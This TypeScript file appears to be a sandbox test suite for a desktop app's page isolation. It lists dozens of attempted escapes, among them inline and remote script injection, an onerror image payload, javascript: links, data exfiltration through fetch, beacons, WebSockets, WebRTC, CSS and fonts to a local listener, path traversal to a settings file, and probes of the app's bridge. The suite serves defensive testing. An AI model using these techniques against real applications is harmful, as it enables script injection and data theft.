/** A way in which code in the page could try to reach something that it must not. */
export interface Escape {
  readonly name: string;
  /** Runs in the page, as text: it sees what is out of its reach and nothing else. True: it worked. */
  readonly run: (beyond: Beyond) => boolean | Promise<boolean>;
}

/** What a page must not reach. */
export interface Beyond {
  /** Address of somebody who waits on this machine. */
  readonly outside: string;
  /** Address of a picture on its disk. */
  readonly picture: string;
}

/* Each waits a moment at most: what has not worked by then is judged by what arrived outside. */

/** What an attacker in the page tries: to run more code, to send something out, to leave, to read, to be granted something. */
export const escapes: readonly Escape[] = [
  {
    name: 'inline script',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'window.escaped = true';
      document.head.append(script);
      return 'escaped' in window;
    },
  },
  {
    name: 'script from outside',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        script.src = `${outside}script.js`;
        document.head.append(script);
      }),
  },
  {
    name: 'eval in a timer',
    run: () =>
      new Promise((resolve) => {
        // The debugger lifts the ban on eval for what it runs itself, so a timer runs it.
        setTimeout(() => {
          try {
            // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what must not work is what is tested
            new Function('return 1');
            resolve(true);
          } catch {
            resolve(false);
          }
        });
      }),
  },
  {
    name: 'handler in an attribute',
    run: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.escapedByHandler = true');
      document.body.append(button);
      button.click();
      button.remove();
      return 'escapedByHandler' in window;
    },
  },
  {
    name: 'HTML as text',
    run: () => {
      const place = document.createElement('div');
      place.innerHTML = '<img src="x" onerror="window.escapedByHtml = true">';
      return place.children.length > 0;
    },
  },
  {
    name: 'a policy of its own for trusted text',
    run: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      return Boolean(trustedTypes.createPolicy('attacker', { createHTML: (html: string) => html }));
    },
  },
  {
    name: 'import of a module from outside',
    run: ({ outside }) => {
      const address = `${outside}module.js`;
      return import(/* @vite-ignore */ address).then(
        () => true,
        () => false,
      );
    },
  },
  {
    name: 'import of a module written as an address',
    run: () => {
      const address = 'data:text/javascript,export default 1';
      return import(/* @vite-ignore */ address).then(
        () => true,
        () => false,
      );
    },
  },
  {
    name: 'script address in a link',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.escapedByLink = true';
      document.body.append(link);
      link.click();
      link.remove();
      return 'escapedByLink' in window;
    },
  },
  {
    name: 'fetch',
    run: ({ outside }) =>
      fetch(outside).then(
        () => true,
        () => false,
      ),
  },
  {
    name: 'fetch without an answer',
    run: ({ outside }) =>
      fetch(outside, { mode: 'no-cors', method: 'POST', body: 'secret' }).then(
        () => true,
        () => false,
      ),
  },
  {
    name: 'XMLHttpRequest',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve(true);
        request.onerror = () => resolve(false);
        request.open('GET', outside);
        request.send();
      }),
  },
  {
    name: 'WebSocket',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(outside.replace('http', 'ws'));
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }),
  },
  {
    name: 'EventSource',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const source = new EventSource(outside);
        source.onopen = () => resolve(true);
        source.onerror = () => {
          source.close();
          resolve(false);
        };
      }),
  },
  {
    name: 'WebTransport',
    run: async ({ outside }) => {
      const Transport = (window as unknown as { WebTransport?: new (url: string) => { ready: Promise<void> } })
        .WebTransport;
      if (Transport === undefined) return false;
      return new Transport(outside.replace('http:', 'https:')).ready.then(
        () => true,
        () => false,
      );
    },
  },
  { name: 'beacon', run: ({ outside }) => navigator.sendBeacon(outside, 'secret') && false },
  {
    name: 'WebRTC to a server of its own',
    run: async ({ outside }) => {
      const { hostname, port } = new URL(outside);
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${hostname}:${port}?transport=tcp`, username: 'secret', credential: 'secret' }],
      });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 500));
      peer.close();
      return false;
    },
  },
  {
    name: 'picture',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
        image.src = `${outside}secret.png`;
      }),
  },
  {
    name: 'sound',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const sound = new Audio(`${outside}secret.mp3`);
        sound.oncanplay = () => resolve(true);
        sound.onerror = () => resolve(false);
      }),
  },
  {
    name: 'style sheet',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.onload = () => resolve(true);
        link.onerror = () => resolve(false);
        link.href = `${outside}secret.css`;
        document.head.append(link);
      }),
  },
  {
    name: 'style that loads a picture',
    run: ({ outside }) => {
      const style = document.createElement('style');
      style.textContent = `body { background-image: url(${outside}secret.png) !important }`;
      document.head.append(style);
      const taken = getComputedStyle(document.body).backgroundImage !== 'none';
      style.remove();
      return taken;
    },
  },
  {
    name: 'picture of a sheet made by script',
    run: async ({ outside }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url(${outside}secret.png) !important }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      await new Promise((resolve) => setTimeout(resolve, 200));
      document.adoptedStyleSheets = document.adoptedStyleSheets.filter((other) => other !== sheet);
      return false;
    },
  },
  {
    name: 'font',
    run: ({ outside }) =>
      new FontFace('Secret', `url(${outside}secret.woff2)`).load().then(
        () => true,
        () => false,
      ),
  },
  {
    name: 'names looked up and connections made ahead of time',
    run: async ({ outside }) => {
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
        const link = document.createElement('link');
        link.rel = rel;
        link.as = 'image';
        link.href = rel === 'dns-prefetch' ? '//secret.example.com' : outside;
        document.head.append(link);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return false;
    },
  },
  {
    name: 'form',
    run: async ({ outside }) => {
      const form = document.createElement('form');
      form.action = outside;
      form.method = 'POST';
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 200));
      form.remove();
      return false;
    },
  },
  {
    name: 'ping of a link',
    run: async ({ outside }) => {
      const link = document.createElement('a');
      link.href = '#';
      link.ping = outside;
      document.body.append(link);
      const { hash } = location;
      link.click();
      link.remove();
      location.hash = hash;
      await new Promise((resolve) => setTimeout(resolve, 200));
      return false;
    },
  },
  {
    name: 'frame',
    run: ({ outside }) =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = outside;
        document.body.append(frame);
        setTimeout(() => {
          frame.remove();
          resolve(false);
        }, 200);
      }),
  },
  {
    name: 'frame with the bridge in it',
    run: () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as { desk?: { app: { boot(): Promise<{ ok: boolean }> } } } | null;
      const found = inner?.desk;
      if (found === undefined) {
        frame.remove();
        return false;
      }
      return found.app.boot().then(
        ({ ok }) => ok,
        () => false,
      );
    },
  },
  {
    name: 'worker of a blob',
    run: () =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
        worker.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
        setTimeout(() => resolve(false), 500);
      }),
  },
  {
    name: 'service worker',
    run: () =>
      navigator.serviceWorker.register('/index.js').then(
        // Playwright answers with nothing where it refuses by itself.
        (registration: ServiceWorkerRegistration | undefined) => registration !== undefined,
        () => false,
      ),
  },
  { name: 'new window', run: ({ outside }) => window.open(outside) !== null },
  {
    name: 'leaving the document',
    run: async ({ outside }) => {
      location.assign(outside);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return location.href.startsWith(outside);
    },
  },
  {
    name: 'leaving by a refresh',
    run: async ({ outside }) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0; url=${outside}`;
      document.head.append(meta);
      await new Promise((resolve) => setTimeout(resolve, 300));
      meta.remove();
      return location.href.startsWith(outside);
    },
  },
  {
    name: 'download',
    run: async ({ outside }) => {
      const link = document.createElement('a');
      link.href = `${outside}secret.exe`;
      link.download = 'secret.exe';
      document.body.append(link);
      link.click();
      link.remove();
      await new Promise((resolve) => setTimeout(resolve, 200));
      return false;
    },
  },
  {
    name: 'file of this computer as a picture',
    run: ({ picture }) =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
        image.src = picture;
      }),
  },
  {
    name: 'settings through the scheme',
    run: async () => {
      for (const path of ['/../settings.json', '/%2e%2e/settings.json', '/..%2fsettings.json', '//settings.json']) {
        const script = document.createElement('script');
        const loaded = await new Promise<boolean>((resolve) => {
          script.onload = () => resolve(true);
          script.onerror = () => resolve(false);
          try {
            script.src = path;
          } catch {
            resolve(false);
            return;
          }
          document.head.append(script);
        });
        if (loaded) return true;
      }
      return false;
    },
  },
  {
    name: 'clipboard of the person',
    run: () =>
      navigator.clipboard.readText().then(
        () => true,
        () => false,
      ),
  },
  {
    name: 'camera and microphone',
    run: () =>
      navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(
        () => true,
        () => false,
      ),
  },
  {
    name: 'place of the shop',
    run: () =>
      new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => resolve(true),
          () => resolve(false),
          { timeout: 500 },
        );
      }),
  },
  { name: 'notification', run: async () => (await Notification.requestPermission()) === 'granted' },
  {
    name: 'Node or Electron',
    run: () =>
      ['require', 'process', 'module', 'ipcRenderer', 'electron', 'Buffer', 'global'].some((name) => name in window),
  },
  {
    name: 'partner ID out of any answer',
    run: async () => {
      type Call = (input?: unknown) => Promise<unknown>;
      const { desk } = window as unknown as { desk: Readonly<Record<string, Readonly<Record<string, Call>>>> };
      const set = (await desk['partner']?.['set']?.({ partnerId: 'sentinel-partner-4711' })) as { ok: boolean };
      const inputs: Readonly<Record<string, unknown>> = {
        'app.boot': undefined,
        'partner.check': undefined,
        'records.status': undefined,
        'orders.list': { search: '', unfinishedOnly: false, beforeRef: null, limit: 100 },
        'display.status': undefined,
        'payment.methods': undefined,
        'settings.change': {},
      };
      const answers = await Promise.all(
        Object.entries(inputs).map(([name, input]) => {
          const [domain = '', call = ''] = name.split('.');
          return Promise.resolve(desk[domain]?.[call]?.(input)) as Promise<{ ok: boolean }>;
        }),
      );
      await desk['partner']?.['clear']?.();
      // What was refused has proven nothing.
      if (!set.ok || !answers.every(({ ok }) => ok)) return true;
      return JSON.stringify(answers).includes('sentinel-partner-4711');
    },
  },
  {
    name: 'channels that are not in the contract',
    run: async () => {
      const { desk } = window as unknown as { desk: Record<string, unknown> };
      const names = ['invoke', 'send', 'ipcRenderer', 'readFile', 'exec', 'openExternal'];
      return names.some((name) => name in desk);
    },
  },
  {
    name: 'a bridge changed for everybody after it',
    run: () => {
      const { desk } = window as unknown as { desk: { orders: Record<string, unknown> } };
      try {
        desk.orders['copy'] = () => 'mine';
      } catch {
        return false;
      }
      return String(desk.orders['copy']).includes('mine');
    },
  },
];
